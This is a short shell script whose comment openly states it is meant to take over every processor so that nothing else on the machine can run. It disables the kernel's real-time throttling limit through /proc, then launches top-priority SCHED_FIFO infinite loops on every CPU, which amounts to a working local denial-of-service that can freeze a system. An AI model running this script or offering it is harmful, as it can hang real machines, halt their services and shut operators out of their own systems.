#!/bin/sh
# Takes every processor for good, ahead of everything else that wants one: nobody in this machine says another word.
echo -1 >/proc/sys/kernel/sched_rt_runtime_us
for processor in $(seq "$(nproc)"); do
  chrt -f 99 sh -c 'while :; do :; done' &
done
exec chrt -f 99 sh -c 'while :; do :; done'
